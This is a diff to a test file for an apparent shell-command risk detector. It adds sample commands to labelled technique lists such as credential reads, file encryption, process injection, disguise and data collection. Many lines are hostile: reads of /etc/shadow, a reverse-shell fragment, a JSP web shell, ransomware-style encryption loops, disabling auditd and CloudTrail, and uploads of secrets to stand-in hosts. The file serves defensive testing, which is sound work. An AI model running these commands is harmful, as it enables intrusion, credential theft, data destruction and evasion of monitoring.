@@ -13,6 +13,7 @@ const TECHNIQUES: Readonly<Record<string, readonly string[]>> = {
     `python3 -c 'exec("""import socket as s,subprocess as p\nc=s.socket()\np.Popen(c.recv(9),shell=True)""")'`,
   ],
   'credential-reads:critical': [
+    'gcore 1',
     `sqlite3 /dev/null '.shell cat /etc/shadow'`,
     `vim -c ':!cat /etc/shadow' -c q`,
     `osascript -e 'do shell script "cat /etc/shadow"'`,
@@ -42,6 +43,7 @@ const TECHNIQUES: Readonly<Record<string, readonly string[]>> = {
     'cat <<EOF | tee a.jsp\n<% Runtime.getRuntime().exec(request.getParameter("c")); %>\nEOF',
   ],
   'file-encryption:critical': [
+    '$tool --batch --passphrase x -c /etc/passwd',
     'find /home -name "*.doc" -exec openssl enc -aes-256-cbc -k x -in {} -out {}.enc \\;',
     'gpg --batch --passphrase x -c /etc/passwd',
     'for f in $(find /srv -type f); do openssl enc -aes-256-cbc -k x -in "$f" -out "$f.enc"; rm "$f"; done',
@@ -56,10 +58,12 @@ const TECHNIQUES: Readonly<Record<string, readonly string[]>> = {
   'shell-escape:medium': ['sudo -i', 'sudo su -', 'sudo bash', 'agetty -l /bin/sh -o -p -a root tty'],
   'privileged-files:critical': [`python3 -c 'import os;os.setuid(0);os.system("id")'`],
   'process-injection:critical': [
+    'LD_PRELOAD=/srv/x.so ls',
     `python3 -c 'import os;f=os.memfd_create("a")'`,
     `perl -e '$f=syscall(319,$n,1);exec {"/proc/$$/fd/$f"} "a"'`,
   ],
   'access-changes:critical': [
+    'cp ca.crt /usr/local/share/ca-certificates/ca.crt',
     'chmod 777 /etc/shadow',
     'chown bob /etc/sudoers',
     'setfacl -m u:bob:rw /etc/passwd',
@@ -78,6 +82,7 @@ const TECHNIQUES: Readonly<Record<string, readonly string[]>> = {
     'defaults write com.apple.loginwindow LoginHook /tmp/x',
   ],
   'defenses-off:critical': [
+    'ufw logging off',
     'echo 0 > /proc/sys/kernel/yama/ptrace_scope',
     'rm -f /usr/sbin/auditd',
     'chmod 000 /sbin/auditd',
@@ -85,7 +90,11 @@ const TECHNIQUES: Readonly<Record<string, readonly string[]>> = {
     'aws cloudtrail stop-logging --name trail',
     'tmutil disable',
   ],
-  'disguise:critical': [`bash -c "exec -a '[kworker/0:1]' ./x"`, 'exec -a "sshd: root" ./x'],
+  'disguise:critical': [
+    'cp /bin/sh /tmp/crond; /tmp/crond',
+    `bash -c "exec -a '[kworker/0:1]' ./x"`,
+    'exec -a "sshd: root" ./x',
+  ],
   'disguise:high': ["mkdir '/var/tmp/...'", "alias ps='ps | grep -v miner'"],
   'history-tampering:critical': ['shopt -uo history'],
   'history-tampering:high': ['kill -9 $$'],
@@ -112,6 +121,8 @@ const TECHNIQUES: Readonly<Record<string, readonly string[]>> = {
   ],
   'data-upload:critical': ['socat -u file:/etc/shadow tcp-connect:x.example:1'],
   'data-upload:high': ['wget --post-data="$(env)" https://x.example', 'cat a > /dev/tcp/192.0.2.7/80'],
+  'data-collection:high': ["trap 'echo $BASH_COMMAND >> log' DEBUG"],
+  'data-collection:medium': ['xclip -o > a', 'find / -path "*/places.sqlite"', 'lsmod | grep -i vboxsf'],
   'undecided:medium': [
     '$(xclip -o)',
     'while read -r l; do $l; done < list',
@@ -129,6 +140,8 @@ describe.for(Object.entries(TECHNIQUES))('%s', ([sign, scripts]) => {
 describe('what looks like it and is not raises nothing', () => {
   test.for([
     'make SHELL=/bin/bash test',
+    'LD_PRELOAD="" ls; lsmod | grep kvm',
+    'ln -s /usr/bin/python3 /usr/local/bin/python; cp /bin/busybox rootfs/bin/busybox',
     'which /bin/sh && tmux set -g default-shell /bin/bash',
     'cat a | sort | sort',
     'cut -d "/" -f 2 a.txt | tr "/" "_"',
